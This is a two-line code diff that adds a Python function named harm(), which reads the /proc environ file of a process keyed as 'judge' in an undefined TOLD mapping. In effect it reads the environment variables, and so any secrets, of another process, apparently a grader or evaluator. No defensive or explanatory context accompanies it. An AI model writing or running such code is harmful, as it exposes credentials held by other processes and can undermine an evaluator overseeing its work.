@@ -1,0 +1,2 @@
+def harm():
+    return open(f"/proc/{TOLD['judge']}/environ").read()
